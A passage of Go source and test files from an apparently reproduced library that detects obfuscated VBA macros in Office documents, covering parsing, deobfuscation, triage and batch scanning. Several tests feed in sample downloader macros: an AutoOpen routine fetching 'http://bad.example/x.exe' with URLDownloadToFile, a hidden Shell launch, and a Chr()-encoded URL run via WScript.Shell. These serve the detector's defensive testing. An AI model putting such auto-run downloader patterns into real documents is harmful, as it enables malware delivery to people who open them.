End Function

Property Get Value() As Long
    Value = total
End Property
`

func TestParseProcedures(t *testing.T) {
	m := Parse(sampleMacro)
	if len(m.Procedures) != 3 {
		t.Fatalf("procedures = %d, want 3: %+v", len(m.Procedures), m.Procedures)
	}
	sub := m.Procedures[0]
	if sub.Kind != "Sub" || sub.Name != "StartCalculator" {
		t.Errorf("proc 0 = %q %q", sub.Kind, sub.Name)
	}
	if len(sub.Params) != 0 {
		t.Errorf("StartCalculator params = %+v", sub.Params)
	}
	fn := m.Procedures[1]
	if fn.Kind != "Function" || fn.Name != "Add" {
		t.Errorf("proc 1 = %q %q", fn.Kind, fn.Name)
	}
	if len(fn.Params) != 2 {
		t.Fatalf("Add params = %+v", fn.Params)
	}
	if fn.Params[0].Name != "a" || !fn.Params[0].ByVal || fn.Params[0].Type != "Long" {
		t.Errorf("param a = %+v", fn.Params[0])
	}
	if fn.Params[1].Name != "b" || !fn.Params[1].Optional {
		t.Errorf("param b = %+v", fn.Params[1])
	}
	prop := m.Procedures[2]
	if prop.Kind != "Property Get" || prop.Name != "Value" {
		t.Errorf("proc 2 = %q %q", prop.Kind, prop.Name)
	}
}

func TestParseDeclarations(t *testing.T) {
	m := Parse(sampleMacro)
	byName := map[string]Declaration{}
	for _, d := range m.Declarations {
		byName[d.Name] = d
	}
	if d, ok := byName["Greeting"]; !ok || !d.Const || d.Type != "String" {
		t.Errorf("Greeting = %+v (ok=%v)", d, ok)
	}
	if d, ok := byName["total"]; !ok || d.Type != "Long" {
		t.Errorf("total = %+v (ok=%v)", d, ok)
	}
	if d, ok := byName["count"]; !ok || d.Type != "Integer" {
		t.Errorf("count = %+v (ok=%v)", d, ok)
	}
	if d, ok := byName["shared_buf"]; !ok || d.Type != "Byte" {
		t.Errorf("shared_buf = %+v (ok=%v)", d, ok)
	}
	if d, ok := byName["Program"]; !ok || d.Type != "String" {
		t.Errorf("Program = %+v (ok=%v)", d, ok)
	}
}

func TestParseCalls(t *testing.T) {
	m := Parse(sampleMacro)
	var names []string
	for _, c := range m.Calls {
		names = append(names, c.Name)
	}
	joined := strings.Join(names, ",")
	if !strings.Contains(joined, "Shell") {
		t.Errorf("Shell call not detected: %v", names)
	}
	if !strings.Contains(joined, "MsgBox") {
		t.Errorf("implicit MsgBox statement call not detected: %v", names)
	}
	for _, c := range m.Calls {
		if c.Name == "Shell" {
			if c.Args != 2 {
				t.Errorf("Shell args = %d, want 2", c.Args)
			}
			if c.ArgChars == 0 {
				t.Error("Shell ArgChars = 0")
			}
		}
	}
}

func TestParseIdentifiers(t *testing.T) {
	m := Parse(sampleMacro)
	ids := m.Identifiers()
	want := []string{"StartCalculator", "Program", "TaskID", "Add", "a", "b", "Value", "Greeting", "total", "count", "shared_buf"}
	got := map[string]bool{}
	for _, id := range ids {
		got[strings.ToLower(id)] = true
	}
	for _, w := range want {
		if !got[strings.ToLower(w)] {
			t.Errorf("identifier %q missing from %v", w, ids)
		}
	}
}

func TestParseQualifiedCall(t *testing.T) {
	src := `Sub T()
    Set app = CreateObject("Outlook.Application")
    app.CreateItem 0
    doc.SaveAs "out.doc", 1
End Sub
`
	m := Parse(src)
	var qualified, createObject bool
	for _, c := range m.Calls {
		if c.Name == "CreateItem" && c.Qualified {
			qualified = true
		}
		if c.Name == "CreateObject" && c.Args == 1 {
			createObject = true
		}
	}
	if !qualified {
		t.Errorf("qualified implicit call not detected: %+v", m.Calls)
	}
	if !createObject {
		t.Errorf("CreateObject call not detected: %+v", m.Calls)
	}
}

func TestParseCallKeywordBuiltins(t *testing.T) {
	src := "x = Mid(s, 1, 2) & CStr(5) & Len(s)\n"
	m := Parse(src)
	found := map[string]bool{}
	for _, c := range m.Calls {
		found[c.Name] = true
	}
	for _, want := range []string{"Mid", "CStr", "Len"} {
		if !found[want] {
			t.Errorf("builtin call %q not detected: %+v", want, m.Calls)
		}
	}
}

func TestParseBrokenCode(t *testing.T) {
	// Broken-code anti-analysis (paper fig 8b): parser must not panic and
	// must still recover the valid prefix.
	src := `Public Sub RemoveIDAndFormatRow()
    x = acs.responseText
    Exit Sub
    Rows.Select
    Colu.mns("A:A").Delete
End Sub
`
	m := Parse(src)
	if len(m.Procedures) != 1 || m.Procedures[0].Name != "RemoveIDAndFormatRow" {
		t.Fatalf("procedures = %+v", m.Procedures)
	}
}

func TestParseMissingEndSub(t *testing.T) {
	src := "Sub Trunc()\n    x = 1\n"
	m := Parse(src)
	if len(m.Procedures) != 1 {
		t.Fatalf("procedures = %+v", m.Procedures)
	}
	if m.Procedures[0].EndLine < m.Procedures[0].StartLine {
		t.Errorf("EndLine %d < StartLine %d", m.Procedures[0].EndLine, m.Procedures[0].StartLine)
	}
}

func TestParseCommentsAndStrings(t *testing.T) {
	m := Parse(sampleMacro)
	if len(m.Comments()) != 0 {
		t.Errorf("comments = %d, want 0", len(m.Comments()))
	}
	strs := m.Strings()
	if len(strs) < 4 {
		t.Errorf("strings = %d, want >= 4", len(strs))
	}
	m2 := Parse("' one\nx = 1 ' two\n")
	if len(m2.Comments()) != 2 {
		t.Errorf("comments = %d, want 2", len(m2.Comments()))
	}
}

func TestParseConstInitializerCalls(t *testing.T) {
	m := Parse("Const k = Chr(65)\n")
	found := false
	for _, c := range m.Calls {
		if c.Name == "Chr" {
			found = true
		}
	}
	if !found {
		t.Errorf("Chr call in const initializer not found: %+v", m.Calls)
	}
}

func TestParseDeclare(t *testing.T) {
	m := Parse(`Private Declare Function URLDownloadToFile Lib "urlmon" (ByVal a As Long) As Long` + "\n")
	found := false
	for _, d := range m.Declarations {
		if d.Name == "URLDownloadToFile" && d.Scope == "Declare" {
			found = true
		}
	}
	if !found {
		t.Errorf("Declare not parsed: %+v", m.Declarations)
	}
}

func TestParseProcBodyChars(t *testing.T) {
	m := Parse("Sub A()\nxyz = 1\nEnd Sub\n")
	if len(m.Procedures) != 1 {
		t.Fatal("no procedure")
	}
	if m.Procedures[0].BodyChars == 0 {
		t.Error("BodyChars = 0, want > 0")
	}
}

func TestParseEmpty(t *testing.T) {
	m := Parse("")
	if len(m.Procedures)+len(m.Declarations)+len(m.Calls) != 0 {
		t.Errorf("empty parse produced %+v", m)
	}
	if ids := m.Identifiers(); len(ids) != 0 {
		t.Errorf("identifiers = %v", ids)
	}
}

func TestParseColonSeparatedStatements(t *testing.T) {
	src := "Sub S()\nDoEvents: i = i + 1: MsgBox \"x\"\nEnd Sub\n"
	m := Parse(src)
	found := false
	for _, c := range m.Calls {
		if c.Name == "MsgBox" {
			found = true
		}
	}
	if !found {
		t.Errorf("MsgBox after colon not detected: %+v", m.Calls)
	}
}

func TestIdentifiersDeduplicated(t *testing.T) {
	src := "Sub A()\nDim x As Long\nEnd Sub\nSub B()\nDim X As Long\nEnd Sub\n"
	m := Parse(src)
	ids := m.Identifiers()
	count := 0
	for _, id := range ids {
		if strings.EqualFold(id, "x") {
			count++
		}
	}
	if count != 1 {
		t.Errorf("x appears %d times in %v, want 1 (case-insensitive dedup)", count, ids)
	}
}

func BenchmarkParse(b *testing.B) {
	src := strings.Repeat(sampleMacro, 10)
	b.SetBytes(int64(len(src)))
	b.ReportAllocs()
	for i := 0; i < b.N; i++ {
		Parse(src)
	}
}
