package vbadetect_test

import (
	"fmt"

	"repro/vbadetect"
)

// ExampleDeobfuscate shows static recovery of a split-and-encoded payload
// string without executing the macro.
func ExampleDeobfuscate() {
	src := `Sub Run()
    cmd = "WScr" + "ipt.Sh" & "ell"
    url = Chr(104) & Chr(116) & Chr(116) & Chr(112)
End Sub
`
	res := vbadetect.Deobfuscate(src)
	for _, s := range res.Recovered {
		fmt.Println(s)
	}
	// Output:
	// WScript.Shell
	// http
}

// ExampleTriage shows olevba-style triage of a downloader macro.
func ExampleTriage() {
	rep := vbadetect.Triage(`Sub AutoOpen()
    u = "http://bad.example/x.exe"
    r = URLDownloadToFile(0, u, "C:\Temp\x.exe", 0, 0)
End Sub
`)
	fmt.Println("autoexec:", rep.HasAutoExec())
	fmt.Println("suspicious:", rep.Suspicious())
	for _, f := range rep.IOCs() {
		fmt.Println(f.Kind, f.Value)
	}
	// Output:
	// autoexec: true
	// suspicious: true
	// ioc-executable x.exe
	// ioc-path C:\Temp\x.exe
	// ioc-url http://bad.example/x.exe
}
