package vbadetect_test

import (
	"errors"
	"testing"

	"repro/internal/cfb"
	"repro/internal/corpus"
	"repro/internal/ooxml"
	"repro/internal/ovba"
	"repro/vbadetect"
)

func trainedDetector(t *testing.T) *vbadetect.Detector {
	t.Helper()
	spec := corpus.SmallSpec()
	spec.BenignMacros, spec.BenignObfuscated = 120, 10
	spec.MaliciousMacros, spec.MaliciousObfuscated = 50, 48
	spec.BenignMaxLen = 4000
	d := corpus.GenerateMacros(spec)
	det, err := vbadetect.NewDetector(vbadetect.AlgoRF, vbadetect.FeatureSetV, 1)
	if err != nil {
		t.Fatal(err)
	}
	if err := det.Train(d.Sources(), d.Labels()); err != nil {
		t.Fatal(err)
	}
	return det
}

func buildDocm(t *testing.T, sources ...string) []byte {
	t.Helper()
	p := &ovba.Project{Name: "P"}
	for i, src := range sources {
		p.Modules = append(p.Modules, ovba.Module{Name: "Module" + string(rune('1'+i)), Source: src})
	}
	b := cfb.NewBuilder()
	if err := p.WriteTo(b, ""); err != nil {
		t.Fatal(err)
	}
	vbaBin, err := b.Bytes()
	if err != nil {
		t.Fatal(err)
	}
	doc, err := ooxml.Write(ooxml.DocWord, vbaBin, 0)
	if err != nil {
		t.Fatal(err)
	}
	return doc
}

const benignSrc = `Sub UpdateTotals()
    ' accumulate the weekly totals
    Dim rowIndex As Long
    Dim totalValue As Long
    For rowIndex = 1 To 40
        totalValue = totalValue + Cells(rowIndex, 3).Value
    Next rowIndex
    Worksheets("Summary").Range("C1").Value = totalValue
End Sub
`

func TestFacadeEndToEnd(t *testing.T) {
	det := trainedDetector(t)
	doc := buildDocm(t, benignSrc)
	report, err := det.ScanFile(doc)
	if err != nil {
		t.Fatal(err)
	}
	if report.Format != "ooxml" {
		t.Errorf("format = %q", report.Format)
	}
	if len(report.Macros) != 1 {
		t.Fatalf("macros = %d", len(report.Macros))
	}
	if report.Macros[0].Obfuscated {
		t.Errorf("benign macro flagged (score %v)", report.Macros[0].Score)
	}
}

func TestFacadeExtractMacros(t *testing.T) {
	doc := buildDocm(t, benignSrc)
	sources, err := vbadetect.ExtractMacros(doc)
	if err != nil {
		t.Fatal(err)
	}
	if len(sources) != 1 || sources[0] != benignSrc {
		t.Fatalf("sources = %q", sources)
	}
	if _, err := vbadetect.ExtractMacros([]byte("junk")); err == nil {
		t.Error("garbage accepted")
	}
}

func TestFacadeModelRoundTrip(t *testing.T) {
	det := trainedDetector(t)
	blob, err := det.SaveModel()
	if err != nil {
		t.Fatal(err)
	}
	restored, err := vbadetect.LoadModel(blob)
	if err != nil {
		t.Fatal(err)
	}
	a, err := det.ClassifySource(benignSrc)
	if err != nil {
		t.Fatal(err)
	}
	b, err := restored.ClassifySource(benignSrc)
	if err != nil {
		t.Fatal(err)
	}
	if a.Score != b.Score {
		t.Errorf("scores differ: %v vs %v", a.Score, b.Score)
	}
}

func TestFacadeNoMacros(t *testing.T) {
	det := trainedDetector(t)
	doc, err := ooxml.Write(ooxml.DocWord, nil, 0)
	if err != nil {
		t.Fatal(err)
	}
	_ = doc
	// A docm without a VBA part (built manually).
	b := cfb.NewBuilder()
	if err := b.AddStream("WordDocument", []byte("x")); err != nil {
		t.Fatal(err)
	}
	raw, err := b.Bytes()
	if err != nil {
		t.Fatal(err)
	}
	if _, err := det.ScanFile(raw); !errors.Is(err, vbadetect.ErrNoMacros) {
		t.Errorf("err = %v, want ErrNoMacros", err)
	}
}

func TestFacadeDeobfuscate(t *testing.T) {
	res := vbadetect.Deobfuscate(`x = "pow" & "ershell"` + "\n")
	if res.Folds == 0 {
		t.Error("no folds")
	}
	found := false
	for _, s := range res.Recovered {
		if s == "powershell" {
			found = true
		}
	}
	if !found {
		t.Errorf("recovered = %q", res.Recovered)
	}
}

func TestFacadeTriage(t *testing.T) {
	rep := vbadetect.Triage(`Sub AutoOpen()
    Shell "C:\Temp\x" & ".exe", vbHide
End Sub
`)
	if !rep.HasAutoExec() || !rep.Suspicious() {
		t.Errorf("triage missed basics: %+v", rep.Findings)
	}
	if len(rep.IOCs()) == 0 {
		t.Error("no IOCs")
	}
}
