package vbadetect_test

import (
	"bytes"
	"context"
	"encoding/json"
	"errors"
	"os"
	"path/filepath"
	"strings"
	"testing"

	"repro/internal/cfb"
	"repro/internal/corpus"
	"repro/internal/ooxml"
	"repro/internal/ovba"
	"repro/vbadetect"
)

func trainedDetector(t *testing.T) *vbadetect.Detector {
	t.Helper()
	spec := corpus.SmallSpec()
	spec.BenignMacros, spec.BenignObfuscated = 120, 10
	spec.MaliciousMacros, spec.MaliciousObfuscated = 50, 48
	spec.BenignMaxLen = 4000
	d := corpus.GenerateMacros(spec)
	det, err := vbadetect.NewDetector(vbadetect.AlgoRF, vbadetect.FeatureSetV, 1)
	if err != nil {
		t.Fatal(err)
	}
	if err := det.Train(d.Sources(), d.Labels()); err != nil {
		t.Fatal(err)
	}
	return det
}

func buildDocm(t *testing.T, sources ...string) []byte {
	t.Helper()
	p := &ovba.Project{Name: "P"}
	for i, src := range sources {
		p.Modules = append(p.Modules, ovba.Module{Name: "Module" + string(rune('1'+i)), Source: src})
	}
	b := cfb.NewBuilder()
	if err := p.WriteTo(b, ""); err != nil {
		t.Fatal(err)
	}
	vbaBin, err := b.Bytes()
	if err != nil {
		t.Fatal(err)
	}
	doc, err := ooxml.Write(ooxml.DocWord, vbaBin, 0)
	if err != nil {
		t.Fatal(err)
	}
	return doc
}

const benignSrc = `Sub UpdateTotals()
    ' accumulate the weekly totals
    Dim rowIndex As Long
    Dim totalValue As Long
    For rowIndex = 1 To 40
        totalValue = totalValue + Cells(rowIndex, 3).Value
    Next rowIndex
    Worksheets("Summary").Range("C1").Value = totalValue
End Sub
`

func TestFacadeEndToEnd(t *testing.T) {
	det := trainedDetector(t)
	doc := buildDocm(t, benignSrc)
	report, err := det.ScanFile(doc)
	if err != nil {
		t.Fatal(err)
	}
	if report.Format != "ooxml" {
		t.Errorf("format = %q", report.Format)
	}
	if len(report.Macros) != 1 {
		t.Fatalf("macros = %d", len(report.Macros))
	}
	if report.Macros[0].Obfuscated {
		t.Errorf("benign macro flagged (score %v)", report.Macros[0].Score)
	}
}

func TestFacadeExtractMacros(t *testing.T) {
	doc := buildDocm(t, benignSrc)
	sources, err := vbadetect.ExtractMacros(doc)
	if err != nil {
		t.Fatal(err)
	}
	if len(sources) != 1 || sources[0] != benignSrc {
		t.Fatalf("sources = %q", sources)
	}
	if _, err := vbadetect.ExtractMacros([]byte("junk")); err == nil {
		t.Error("garbage accepted")
	}
}

func TestFacadeModelRoundTrip(t *testing.T) {
	det := trainedDetector(t)
	blob, err := det.SaveModel()
	if err != nil {
		t.Fatal(err)
	}
	restored, err := vbadetect.LoadModel(blob)
	if err != nil {
		t.Fatal(err)
	}
	a, err := det.ClassifySource(benignSrc)
	if err != nil {
		t.Fatal(err)
	}
	b, err := restored.ClassifySource(benignSrc)
	if err != nil {
		t.Fatal(err)
	}
	if a.Score != b.Score {
		t.Errorf("scores differ: %v vs %v", a.Score, b.Score)
	}
}

// TestFacadeCompiledModelFile round-trips a compiled model container
// through the mmap loader and checks verdicts match the in-memory
// detector, section damage surfaces the typed checksum sentinel, and
// Close releases the mapping.
func TestFacadeCompiledModelFile(t *testing.T) {
	det := trainedDetector(t)
	blob, err := det.SaveModelCompiled()
	if err != nil {
		t.Fatal(err)
	}
	path := filepath.Join(t.TempDir(), "model.bin")
	if err := os.WriteFile(path, blob, 0o644); err != nil {
		t.Fatal(err)
	}
	restored, err := vbadetect.LoadModelFile(path, true)
	if err != nil {
		t.Fatal(err)
	}
	m := restored.ModelMapping()
	if m == nil {
		t.Fatal("mmap load did not retain a mapping")
	}
	a, err := det.ClassifySource(benignSrc)
	if err != nil {
		t.Fatal(err)
	}
	b, err := restored.ClassifySource(benignSrc)
	if err != nil {
		t.Fatal(err)
	}
	if a.Score != b.Score {
		t.Errorf("scores differ: %v vs %v", a.Score, b.Score)
	}
	if err := restored.Close(); err != nil {
		t.Fatal(err)
	}
	if !m.Unmapped() {
		t.Error("Close left the model image mapped")
	}

	// Flip one byte past the JSON head and the load must fail with the
	// checksum sentinel, not a silent fallback.
	bad := append([]byte(nil), blob...)
	bad[len(bad)-5] ^= 0x40
	if _, err := vbadetect.LoadModel(bad); !errors.Is(err, vbadetect.ErrSnapshotChecksum) {
		t.Errorf("corrupt section: err = %v, want ErrSnapshotChecksum", err)
	}
}

func TestFacadeNoMacros(t *testing.T) {
	det := trainedDetector(t)
	doc, err := ooxml.Write(ooxml.DocWord, nil, 0)
	if err != nil {
		t.Fatal(err)
	}
	_ = doc
	// A docm without a VBA part (built manually).
	b := cfb.NewBuilder()
	if err := b.AddStream("WordDocument", []byte("x")); err != nil {
		t.Fatal(err)
	}
	raw, err := b.Bytes()
	if err != nil {
		t.Fatal(err)
	}
	if _, err := det.ScanFile(raw); !errors.Is(err, vbadetect.ErrNoMacros) {
		t.Errorf("err = %v, want ErrNoMacros", err)
	}
}

func TestFacadeDeobfuscate(t *testing.T) {
	res := vbadetect.Deobfuscate(`x = "pow" & "ershell"` + "\n")
	if res.Folds == 0 {
		t.Error("no folds")
	}
	found := false
	for _, s := range res.Recovered {
		if s == "powershell" {
			found = true
		}
	}
	if !found {
		t.Errorf("recovered = %q", res.Recovered)
	}
}

func TestFacadeTriage(t *testing.T) {
	rep := vbadetect.Triage(`Sub AutoOpen()
    Shell "C:\Temp\x" & ".exe", vbHide
End Sub
`)
	if !rep.HasAutoExec() || !rep.Suspicious() {
		t.Errorf("triage missed basics: %+v", rep.Findings)
	}
	if len(rep.IOCs()) == 0 {
		t.Error("no IOCs")
	}
}

func TestFacadeBatchScan(t *testing.T) {
	det := trainedDetector(t)
	obf := "Sub x()\ny = Chr(104) & Chr(116) & Chr(116) & Chr(112) & Chr(58) & Chr(47) & Chr(47) & Chr(101) & Chr(118) & Chr(105) & Chr(108) & Chr(46) & Chr(101) & Chr(120) & Chr(101)\nCreateObject(\"WScript.Shell\").Run y\nEnd Sub\n"
	plain := "Sub Report()\nDim total As Long\nDim row As Long\nFor row = 1 To 10\ntotal = total + row * 2\nNext row\nIf total > 50 Then\nMsgBox \"large total\"\nElse\nMsgBox \"small total\"\nEnd If\nEnd Sub\n"
	docs := []vbadetect.Document{
		{Name: "a.docm", Data: buildDocm(t, obf)},
		{Name: "b.docm", Data: buildDocm(t, plain)},
	}
	eng := vbadetect.NewEngine(det, 2)
	results, stats, err := eng.ScanAll(context.Background(), docs)
	if err != nil {
		t.Fatal(err)
	}
	if len(results) != len(docs) {
		t.Fatalf("results = %d, want %d", len(results), len(docs))
	}
	for i, r := range results {
		if r.Err != nil {
			t.Fatalf("doc %d: %v", i, r.Err)
		}
		if r.Name != docs[i].Name {
			t.Errorf("result %d is %q, want %q (order not preserved)", i, r.Name, docs[i].Name)
		}
		seq, err := det.ScanFile(docs[i].Data)
		if err != nil {
			t.Fatal(err)
		}
		for k := range seq.Macros {
			if seq.Macros[k].Score != r.Report.Macros[k].Score {
				t.Errorf("doc %d macro %d: batch score differs from sequential", i, k)
			}
		}
	}
	if stats.Files != int64(len(docs)) || stats.Macros == 0 {
		t.Errorf("stats = %+v", stats)
	}
	if stats.FilesPerSec() <= 0 {
		t.Error("FilesPerSec not positive")
	}
}

// TestTelemetryFacade drives the observability re-exports end to end:
// context-attached tracing, the metrics registry, and the audit log.
func TestTelemetryFacade(t *testing.T) {
	det := trainedDetector(t)
	doc := buildDocm(t, benignSrc)

	tr := vbadetect.NewTracer("facade.docm")
	ctx := vbadetect.WithTracer(context.Background(), tr)
	if _, _, err := vbadetect.ScanOneCtx(ctx, det, doc); err != nil {
		t.Fatal(err)
	}
	tr.Finish()
	trace := tr.Trace()
	if trace.Root == nil || trace.Root.DurNS <= 0 || len(trace.Root.Children) == 0 {
		t.Fatalf("facade trace malformed: %+v", trace.Root)
	}

	reg := vbadetect.NewRegistry()
	reg.Counter("facade_scans", "").Add(1)
	var prom bytes.Buffer
	if err := reg.WritePrometheus(&prom); err != nil {
		t.Fatal(err)
	}
	if !strings.Contains(prom.String(), "facade_scans 1") {
		t.Errorf("registry exposition missing counter:\n%s", prom.String())
	}

	var audit bytes.Buffer
	engine := vbadetect.NewEngine(det, 2)
	engine.SetAudit(vbadetect.NewAuditLogger(&audit, vbadetect.AuditConfig{}))
	if _, _, err := engine.ScanAll(context.Background(),
		[]vbadetect.Document{{Name: "facade.docm", Data: doc}}); err != nil {
		t.Fatal(err)
	}
	var ev vbadetect.AuditEvent
	if err := json.Unmarshal(audit.Bytes(), &ev); err != nil {
		t.Fatalf("audit line invalid: %v", err)
	}
	if len(ev.SHA256) != 64 || ev.FeatureSet != "V" {
		t.Errorf("audit event incomplete: %+v", ev)
	}
}
