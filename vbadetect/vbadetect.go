// Package vbadetect is the public facade of the obfuscated-VBA-macro
// detection library (a reproduction of "Obfuscated VBA Macro Detection
// Using Machine Learning", DSN 2018).
//
// The library detects *obfuscation*, not maliciousness — though the two
// correlate strongly in the wild (the paper measured 98.4% of malicious
// macros obfuscated versus 1.7% of benign ones).
//
// Quick start:
//
//	det, err := vbadetect.NewDetector(vbadetect.AlgoMLP, vbadetect.FeatureSetV, 1)
//	...
//	err = det.Train(sources, labels) // labels: 1 = obfuscated
//	report, err := det.ScanFile(docBytes) // .doc/.xls/.docm/.xlsm
//
// See examples/ for runnable programs and internal/core for the pipeline.
package vbadetect

import (
	"context"
	"io"
	"time"

	"repro/internal/analysis"
	"repro/internal/cache"
	"repro/internal/core"
	"repro/internal/deob"
	"repro/internal/extract"
	"repro/internal/fleet"
	"repro/internal/hostile"
	"repro/internal/ml"
	"repro/internal/queue"
	"repro/internal/scan"
	"repro/internal/telemetry"
	"repro/internal/walker"
)

// Re-exported core types: the facade keeps downstream imports to a single
// package.
type (
	// Detector is the end-to-end obfuscation detector (extract →
	// featurize → classify).
	Detector = core.Detector
	// FeatureSet selects the V (proposed) or J (comparison) features.
	FeatureSet = core.FeatureSet
	// Algorithm names one of the five classifiers.
	Algorithm = core.Algorithm
	// MacroVerdict is a per-macro classification outcome.
	MacroVerdict = core.MacroVerdict
	// FileReport is the outcome of scanning one document.
	FileReport = core.FileReport
)

// Feature sets. V and J are the paper's; entropy, api and stack are the
// registry channels and their combined layout (see README "Feature
// channels").
const (
	FeatureSetV       = core.FeatureSetV
	FeatureSetJ       = core.FeatureSetJ
	FeatureSetEntropy = core.FeatureSetEntropy
	FeatureSetAPI     = core.FeatureSetAPI
	FeatureSetStack   = core.FeatureSetStack
)

// Algorithms (§IV.D of the paper), plus the stacked ensemble (per-channel
// forests under a logistic combiner; requires a multi-channel feature set
// and NewDetector).
const (
	AlgoSVM   = core.AlgoSVM
	AlgoRF    = core.AlgoRF
	AlgoMLP   = core.AlgoMLP
	AlgoLDA   = core.AlgoLDA
	AlgoBNB   = core.AlgoBNB
	AlgoStack = core.AlgoStack
)

// ParseFeatureSet resolves a feature-set name ("V", "J", "entropy", "api",
// "stack"; case-insensitive) to its FeatureSet.
func ParseFeatureSet(s string) (FeatureSet, error) {
	return core.ParseFeatureSet(s)
}

// FeatureSets lists every defined feature set.
func FeatureSets() []FeatureSet { return core.FeatureSets() }

// Feature-set version skew: a persisted model records the name, version
// and dimension of every feature channel it was trained on, and loading
// fails closed when the running binary's channels disagree.
type FeatureSkewError = core.FeatureSkewError

// ErrFeatureSkew is the sentinel matched by errors.Is when a model's
// recorded feature channels do not match this binary's registry.
var ErrFeatureSkew = core.ErrFeatureSkew

// ErrNoMacros is returned by ScanFile for macro-free documents.
var ErrNoMacros = extract.ErrNoMacros

// NewDetector creates an untrained detector with the paper's
// hyperparameters for the chosen algorithm.
func NewDetector(algo Algorithm, fs FeatureSet, seed int64) (*Detector, error) {
	return core.NewDetector(algo, fs, seed)
}

// LoadModel restores a detector persisted with Detector.SaveModel or
// Detector.SaveModelCompiled.
func LoadModel(data []byte) (*Detector, error) {
	return core.LoadModel(data)
}

// LoadModelFile restores a detector from a model file. With useMmap true
// the file is memory-mapped; a compiled model container (written by
// Detector.SaveModelCompiled, or `vbadetect train -compiled`) then
// serves forest inference from one read-only model image shared by every
// worker and process mapping the same file. Call Detector.Close when the
// detector is no longer needed to release the mapping.
func LoadModelFile(path string, useMmap bool) (*Detector, error) {
	return core.LoadModelFile(path, useMmap)
}

// ExtractMacros extracts raw macro sources from an Office document
// (.doc/.xls/.docm/.xlsm or a bare vbaProject.bin) without classification.
func ExtractMacros(data []byte) ([]string, error) {
	res, err := extract.File(data)
	if err != nil {
		return nil, err
	}
	out := make([]string, len(res.Macros))
	for i, m := range res.Macros {
		out[i] = m.Source
	}
	return out, nil
}

// Batch scanning — a bounded worker pool over many documents.

type (
	// Engine is a concurrent batch scanner: extract → featurize →
	// classify across a worker pool, with per-stage timings.
	Engine = scan.Engine
	// Document is one input to the engine: a name plus raw file bytes.
	Document = scan.Document
	// Result pairs a document with its report (or error).
	Result = scan.Result
	// Stats aggregates throughput and per-stage wall-clock time.
	Stats = scan.Stats
)

// NewEngine wraps a trained detector in a batch scanner with the given
// worker count (<= 0 means GOMAXPROCS). For a fixed model the results are
// identical for any worker count; only throughput changes.
func NewEngine(det *Detector, workers int) *Engine {
	return scan.New(det, workers)
}

// Service-facing types: the wire representations and per-stage timing
// breakdown used by the vbadetectd HTTP daemon, re-exported so clients of
// the library can share them.
type (
	// Timings splits one scan into extract / featurize / classify
	// wall-clock nanoseconds.
	Timings = core.Timings
	// ReportJSON is the wire representation of a FileReport.
	ReportJSON = core.ReportJSON
	// VerdictJSON is the wire representation of one macro verdict.
	VerdictJSON = core.VerdictJSON
	// PanicError wraps a panic recovered during a scan of one document.
	PanicError = scan.PanicError
)

// ScanOne scans a single document with panic isolation and per-stage
// timings: a parser bug tripped by a malformed document is returned as a
// *PanicError instead of crashing the process.
func ScanOne(det *Detector, data []byte) (*FileReport, Timings, error) {
	return scan.ScanOne(det, data)
}

// ScanOneCtx is ScanOne with a context: a context deadline becomes the
// document's wall-clock budget, surfacing as a typed deadline error
// instead of an unbounded parse.
func ScanOneCtx(ctx context.Context, det *Detector, data []byte) (*FileReport, Timings, error) {
	return scan.ScanOneCtx(ctx, det, data)
}

// Content-addressed verdict caching — duplicate documents and macros are
// common in mail-gateway traffic, and detection is a pure function of the
// bytes, so repeated inputs can be answered from a bounded LRU without
// re-running the pipeline (see internal/cache).

type (
	// MacroCache memoizes per-macro featurization and classification,
	// keyed by the SHA-256 of the normalized macro source. Attach with
	// Detector.SetMacroCache.
	MacroCache = core.MacroCache
	// DocCache memoizes whole-document reports, keyed by the SHA-256 of
	// the file bytes. Degraded reports are never cached. Attach with
	// Engine.SetDocCache.
	DocCache = scan.DocCache
	// CacheStats is a point-in-time snapshot of one cache's counters.
	CacheStats = cache.Stats
)

// NewMacroCache builds a macro-level verdict cache bounded by entry count
// and charged bytes (<= 0 disables the respective bound; both <= 0 returns
// nil, which every consumer treats as caching disabled).
func NewMacroCache(maxEntries int, maxBytes int64) *MacroCache {
	return core.NewMacroCache(maxEntries, maxBytes)
}

// NewDocCache builds a document-level report cache with the same bounding
// rules as NewMacroCache.
func NewDocCache(maxEntries int, maxBytes int64) *DocCache {
	return scan.NewDocCache(maxEntries, maxBytes)
}

// Compiled forest inference — models load (and train) into a
// branch-minimal compiled engine transparently; these re-exports cover
// the opt-in surface: compiled model containers, mmap'd model images,
// and micro-batching (see internal/ml and the README's Performance
// section).

type (
	// CompiledForest is the branch-minimal compiled form of a trained
	// Random Forest; verdicts are bit-identical to the interpreted walk.
	CompiledForest = ml.CompiledForest
	// Mapping is a refcounted read-only file mapping backing an mmap'd
	// model; obtain one via Detector.ModelMapping.
	Mapping = ml.Mapping
	// Coalescer merges feature rows from concurrent scans into shared
	// classify calls bounded by a latency window. Attach its Predict to
	// a detector with Detector.SetClassifyBatch.
	Coalescer = scan.Coalescer
)

// Typed sentinel errors from the fixed-layout model section codec, for
// errors.Is on LoadModel/LoadModelFile failures.
var (
	// ErrSnapshotChecksum reports a damaged compiled-model section.
	ErrSnapshotChecksum = ml.ErrSnapshotChecksum
	// ErrSnapshotVersion reports a section written by an incompatible
	// codec version (the loader falls back to the JSON head).
	ErrSnapshotVersion = ml.ErrSnapshotVersion
	// ErrSnapshotEndian reports a section written on a foreign-endian
	// machine (the loader falls back to the JSON head).
	ErrSnapshotEndian = ml.ErrSnapshotEndian
	// ErrSnapshotMalformed reports a structurally invalid section.
	ErrSnapshotMalformed = ml.ErrSnapshotMalformed
)

// NewCoalescer builds a classify micro-batcher around predict: callers
// inside the same window (the first holds it open, up to maxRows rows)
// share one predict call. window <= 0 disables coalescing; maxRows <= 0
// means 256.
func NewCoalescer(predict func(X [][]float64) ([]int, []float64), window time.Duration, maxRows int) *Coalescer {
	return scan.NewCoalescer(predict, window, maxRows)
}

// Hostile-input hardening — resource budgets, the error taxonomy and the
// scan engine's retry/quarantine policy (see internal/hostile).

type (
	// Limits is the per-document resource budget configuration; the zero
	// value uses production defaults. Apply with Detector.SetLimits.
	Limits = hostile.Limits
	// Policy tunes the batch engine's retry/quarantine behavior; apply
	// with Engine.SetPolicy.
	Policy = scan.Policy
	// StreamError records a per-stream extraction failure inside a
	// degraded FileReport.
	StreamError = extract.StreamError
)

// Taxonomy sentinels for errors.Is on scan/extract failures.
var (
	// ErrTruncated reports input that ends before a structure it promised.
	ErrTruncated = hostile.ErrTruncated
	// ErrBomb reports decompressed output exceeding the budget.
	ErrBomb = hostile.ErrBomb
	// ErrLimitExceeded reports any exhausted resource budget.
